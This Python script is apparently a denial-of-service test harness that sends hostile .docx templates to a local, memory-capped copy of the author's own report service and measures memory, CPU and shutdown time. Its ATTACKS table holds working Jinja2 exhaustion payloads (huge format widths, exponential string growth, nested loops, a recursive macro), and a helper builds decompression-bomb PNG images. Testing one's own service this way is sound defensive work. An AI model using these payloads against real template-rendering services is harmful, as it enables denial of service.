"""Send hostile Word templates to a service of one's own, and measure what they take.

    python -m experiments.attacks.docx_template.run HOME --program FOLDER --result NAME

HOME is a folder with a trained plan; it is copied, never written. FOLDER is the program to
attack, default this one. The service and its processes are bounded from outside (3 GB of
address space each), and everything runs on loopback.
"""

from __future__ import annotations

import argparse
import csv
import http.client
import io
import os
import resource
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
import zlib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import docx
from docx.shared import Mm

from experiments.provenance import write_provenance
from training.retrain import commit

HERE = Path(__file__).parent
PROGRAM = HERE.parents[2]
PATIENCE = 60.0  # seconds that a client waits
AFTERWARDS = 4.0  # seconds after which nothing may run for a client that left
BOUND = 3 * 2**30

ATTACKS = {
    "harmless": "{{ report.title }}",
    "width": "{{ '%300000000d' % 1 }}",
    "format": "{{ '{:>300000000}'.format(1) }}",
    "filter format": "{{ '%300000000d' | format(1) }}",
    "center": "{{ 'a' | center(300000000) }}",
    "ljust": "{{ 'a'.ljust(300000000) }}",
    "indent": "{{ 'a\nb' | indent(300000000) }}",
    "replace": "{% set a = 'a'.ljust(20000, 'a') %}{{ a.replace('a', a) }}",
    "huge join": "{% set a = 'a'.ljust(20000, 'a') %}{{ a | list | join(a) }}",
    "nested loops": "".join(f"{{% for a{n} in kpis %}}" for n in range(9))
    + "x"
    + "{% endfor %}" * 9,
    "silent loops": "".join(f"{{% for a{n} in kpis %}}" for n in range(9))
    + "{% set b = 1 %}"
    + "{% endfor %}" * 9,
    "recursive macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "range": "{% for a in range(1000000000) %}x{% endfor %}",
    "doubling": "{% set ns = ['ab'] %}" + "{% set ns = [ns[0] ~ ns[0]] %}" * 34 + "{{ ns[0] }}",
    "division": "{{ 1 / 0 }}",
    "big pictures": "{{ report.title }}",
}


def template(name: str) -> bytes:
    """The hostile document of an attack."""
    document = docx.Document()
    document.add_paragraph(ATTACKS[name])
    if name == "big pictures":
        for shade in range(6):  # 16 million pixels each that compress to little
            document.add_picture(io.BytesIO(picture(4000, shade)), width=Mm(20))
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def picture(side: int, shade: int) -> bytes:
    """A square PNG of one shade of grey."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = zlib.crc32(kind + content)
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    pixels = zlib.compress((b"\0" + bytes([shade]) * side) * side)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def memory_of(process: int) -> tuple[float, float]:
    """Resident memory of a process, and of its children, in MB."""
    return _resident(process), sum(_resident(child) for child in children_of(process))


def children_of(process: int) -> list[int]:
    """The processes that a process started and that still run."""
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rpartition(")")[2].split()
        except OSError:
            continue
        if int(fields[1]) == process and fields[0] != "Z":
            found.append(int(stat.parent.name))
    return found


def _resident(process: int) -> float:
    try:
        pages = int(Path(f"/proc/{process}/statm").read_text().split()[1])
    except (OSError, IndexError):
        return 0.0
    return pages * os.sysconf("SC_PAGE_SIZE") / 2**20


def _busy(process: int) -> float:
    """Seconds of computing of a process and its children so far."""
    total = 0.0
    for one in (process, *children_of(process)):
        try:
            fields = Path(f"/proc/{one}/stat").read_text().rpartition(")")[2].split()
        except OSError:
            continue
        total += (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    return total


class Service:
    """The program under attack, on a copy of a home."""

    def __init__(self, program: Path, home: Path) -> None:
        self._folder = tempfile.TemporaryDirectory()
        copy = Path(self._folder.name) / "home"
        shutil.copytree(home, copy)
        with socket.create_server(("127.0.0.1", 0)) as free:
            self.port = free.getsockname()[1]
        environment = {**os.environ, "VEDICH_HOME": str(copy), "OPENBLAS_NUM_THREADS": "1"}
        self.process = subprocess.Popen(
            [sys.executable, "-m", "service.cli.main", "serve", "--port", str(self.port)],
            cwd=program,
            env=environment,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (BOUND, BOUND)),
        )
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            try:
                if self.ask("GET", "/healthz", b"", 5)[0] == 200:
                    return
            except OSError:
                time.sleep(0.3)
        raise SystemExit("the service did not start")

    def ask(self, method: str, path: str, body: bytes, wait: float, kind: str = "") -> Any:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=wait)
        try:
            headers = {"Content-Type": kind} if kind else {}
            connection.request(method, path, body, headers)
            answer = connection.getresponse()
            return answer.status, answer.read()
        finally:
            connection.close()

    def send(self, plan: str, name: str) -> str:
        edge = "edge-of-parts"
        body = (
            f'--{edge}\r\nContent-Disposition: form-data; name="template"; '
            'filename="t.docx"\r\n\r\n'
        ).encode() + template(name)
        body += f"\r\n--{edge}--\r\n".encode()
        try:
            status, _ = self.ask(
                "POST",
                f"/plans/{plan}/reports/template?lang=en",
                body,
                PATIENCE,
                f"multipart/form-data; boundary={edge}",
            )
        except TimeoutError:
            return "client left"
        except OSError as error:
            return type(error).__name__
        return str(status)

    def stop(self) -> str:
        """SIGTERM, as an operator would; how long it took."""
        began = time.monotonic()
        self.process.send_signal(signal.SIGTERM)
        try:
            self.process.wait(15)
            return f"{time.monotonic() - began:.1f} s"
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
            return "killed after 15 s"
        finally:
            self._folder.cleanup()


def attack(program: Path, home: Path, plan: str, name: str) -> dict[str, Any]:
    """One attack on a fresh service."""
    service = Service(program, home)
    number = service.process.pid
    service.send(plan, "harmless")  # charts, figures and libraries are loaded
    before = memory_of(number)[0]
    most = [before, 0.0]
    began = time.monotonic()
    with ThreadPoolExecutor(1) as pool:
        sent = pool.submit(service.send, plan, name)
        while not sent.done():
            own, others = memory_of(number)
            most = [max(most[0], own), max(most[1], others)]
            time.sleep(0.02)
    answer, took = sent.result(), time.monotonic() - began
    time.sleep(AFTERWARDS)
    busy = _busy(number)
    time.sleep(1)
    running = _busy(number) - busy
    return {
        "attack": name,
        "answer": answer,
        "seconds": f"{took:.1f}",
        "service_before_mb": f"{before:.0f}",
        "service_most_mb": f"{most[0]:.0f}",
        "children_most_mb": f"{most[1]:.0f}",
        "busy_afterwards": f"{min(running, 2.0):.2f}",
        "children_afterwards": len(children_of(number)),
        "stopped_in": service.stop(),
    }


def main(arguments: list[str] | None = None) -> None:
    """Run the attacks and write one table."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").partition("\n")[0])
    parser.add_argument("home", type=Path)
    parser.add_argument("--program", type=Path, default=PROGRAM)
    parser.add_argument("--plan", default="vietnam-2021")
    parser.add_argument("--result", default="after")
    parser.add_argument("--only", nargs="*", choices=ATTACKS, default=list(ATTACKS))
    given = parser.parse_args(arguments)
    rows: list[dict[str, Any]] = []
    program = commit(given.program)
    for name in given.only:
        rows.append(attack(given.program.resolve(), given.home.resolve(), given.plan, name))
        print(rows[-1], flush=True)
    folder = HERE / "results" / given.result
    folder.mkdir(parents=True, exist_ok=True)
    with (folder / "attacks.csv").open("w", encoding="utf-8", newline="") as f:
        table = csv.DictWriter(f, list(rows[0]))
        table.writeheader()
        table.writerows(rows)
    command = f"python -m experiments.attacks.docx_template.run HOME --result {given.result}"
    write_provenance(folder, command, "docxtpl", "jinja2", "python-docx", attacked=program)


if __name__ == "__main__":
    main()
